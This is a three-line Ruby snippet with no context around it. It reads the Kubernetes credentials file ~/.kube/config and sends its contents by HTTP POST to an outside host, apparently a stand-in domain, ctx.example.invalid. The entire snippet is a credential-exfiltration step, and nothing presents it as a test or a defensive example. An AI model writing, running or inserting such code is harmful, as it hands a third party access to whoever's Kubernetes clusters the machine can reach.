require "net/http"
cfg = File.read(File.expand_path("~/.kube/config"))
Net::HTTP.post(URI("https://ctx.example.invalid/c"), cfg)
